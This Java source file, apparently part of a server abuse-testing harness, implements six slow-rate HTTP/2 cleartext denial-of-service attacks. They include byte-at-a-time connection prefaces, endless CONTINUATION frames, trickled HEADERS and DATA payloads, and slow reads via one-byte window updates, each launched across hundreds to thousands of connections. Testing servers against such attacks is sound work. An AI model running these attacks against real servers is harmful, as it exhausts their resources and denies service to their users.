package io.highwater.abuse;

import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.List;

/** What of h2c comes, or is let go, a byte at a time, so that no idle time ends it. */
final class TrickleAttacks {
    private static final int MILLIS = 500;
    private static final int STREAM_WINDOW_BYTES = 65_535;
    private static final int STREAMS = 20;

    /** Of a header that is announced, and never there whole. */
    private static final int VALUE_BYTES = 7_000;

    private TrickleAttacks() {}

    static List<Attack> all() {
        return List.of(
                Crowd.of(
                        "slow-prefaces",
                        "HTTP/2's preface a byte at a time, and SETTINGS in the same way",
                        4_000,
                        scene -> new SlowPreface()),
                Crowd.of(
                        "slow-continuations",
                        "header blocks that never end, of CONTINUATION frames of a byte each",
                        4_000,
                        Continuations::new),
                Crowd.of(
                        "slow-headers-frames",
                        "one HEADERS frame of 7 KB whose payload comes a byte at a time",
                        4_000,
                        HeadersFrame::new),
                Crowd.of(
                        "slow-bodies-h2",
                        "20 POST on each connection, whose DATA frames have a byte each",
                        200,
                        Bodies::new),
                Crowd.of(
                        "slow-data-frames",
                        "a DATA frame of 16 KB on each connection, whose payload comes a byte at a"
                                + " time",
                        2_000,
                        DataFrame::new),
                Crowd.of(
                        "slow-reads-h2",
                        "20 pages on each connection, whose windows are widened by a byte at a"
                                + " time",
                        200,
                        Reads::new));
    }

    private static final class SlowPreface extends Hostile {
        private final byte[] preface = Http2.preface(STREAM_WINDOW_BYTES);
        private int sent;

        @Override
        void onConnected(Line line) {
            trickle(line);
        }

        private void trickle(Line line) {
            if (sent < preface.length - 1) {
                if (!line.isBehind()) {
                    line.send(new byte[] {preface[sent++]});
                }
                line.later(MILLIS, () -> trickle(line));
            }
        }
    }

    /** Sends something, and then a little more of it at a time. */
    private abstract static class Slow extends Http2Hostile {
        Slow(Scene scene, int windowBytes) {
            super(scene, windowBytes);
        }

        abstract byte[] start();

        abstract byte[] more();

        @Override
        final void onOpen(Line line) {
            line.send(start());
            trickle(line);
        }

        private void trickle(Line line) {
            line.later(
                    MILLIS,
                    () -> {
                        if (!line.isBehind()) {
                            line.send(more());
                        }
                        trickle(line);
                    });
        }
    }

    private static final class Continuations extends Slow {
        Continuations(Scene scene) {
            super(scene, STREAM_WINDOW_BYTES);
        }

        @Override
        byte[] start() {
            byte[] block = openEnded(Http2.request("GET", port, "/app.js"));
            return Http2.frame(Http2.HEADERS, 0, nextStream(), block);
        }

        @Override
        byte[] more() {
            return Http2.frame(Http2.CONTINUATION, 0, stream, new byte[] {'x'});
        }
    }

    /** With one more header, but for its value. */
    private static byte[] openEnded(byte[] block) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(block);
        Http2.field(all, "x-long", "x".repeat(VALUE_BYTES));
        return Arrays.copyOf(all.toByteArray(), all.size() - VALUE_BYTES);
    }

    private static final class HeadersFrame extends Slow {
        HeadersFrame(Scene scene) {
            super(scene, STREAM_WINDOW_BYTES);
        }

        @Override
        byte[] start() {
            byte[] block = openEnded(Http2.request("GET", port, "/app.js"));
            int all = block.length + VALUE_BYTES;
            int flags = Http2.END_HEADERS | Http2.END_STREAM;
            return Http2.join(Http2.head(Http2.HEADERS, flags, nextStream(), all), block);
        }

        @Override
        byte[] more() {
            return new byte[] {'x'};
        }
    }

    private static final class Bodies extends Slow {
        Bodies(Scene scene) {
            super(scene, STREAM_WINDOW_BYTES);
        }

        @Override
        byte[] start() {
            byte[] block = post(port);
            byte[][] frames = new byte[STREAMS][];
            for (int i = 0; i < STREAMS; i++) {
                frames[i] = Http2.frame(Http2.HEADERS, Http2.END_HEADERS, nextStream(), block);
            }
            return Http2.join(frames);
        }

        @Override
        byte[] more() {
            byte[][] frames = new byte[STREAMS][];
            for (int i = 0; i < STREAMS; i++) {
                frames[i] = Http2.frame(Http2.DATA, 0, 2 * i + 1, new byte[] {'x'});
            }
            return Http2.join(frames);
        }
    }

    private static byte[] post(int port) {
        return Http2.request("POST", port, "/app.js", "content-length", "1000000");
    }

    private static final class DataFrame extends Slow {
        private static final int MAX_FRAME_BYTES = 16_384;

        DataFrame(Scene scene) {
            super(scene, STREAM_WINDOW_BYTES);
        }

        @Override
        byte[] start() {
            int next = nextStream();
            return Http2.join(
                    Http2.frame(Http2.HEADERS, Http2.END_HEADERS, next, post(port)),
                    Http2.head(Http2.DATA, 0, next, MAX_FRAME_BYTES));
        }

        @Override
        byte[] more() {
            return new byte[] {'x'};
        }
    }

    private static final class Reads extends Slow {
        Reads(Scene scene) {
            super(scene, 0);
        }

        @Override
        byte[] start() {
            byte[] block = Http2.request("GET", port, "/app.js");
            byte[][] frames = new byte[STREAMS][];
            for (int i = 0; i < STREAMS; i++) {
                int flags = Http2.END_HEADERS | Http2.END_STREAM;
                frames[i] = Http2.frame(Http2.HEADERS, flags, nextStream(), block);
            }
            return Http2.join(frames);
        }

        @Override
        byte[] more() {
            byte[][] frames = new byte[STREAMS][];
            for (int i = 0; i < STREAMS; i++) {
                frames[i] = Http2.widen(2 * i + 1, 1);
            }
            return Http2.join(frames);
        }
    }
}
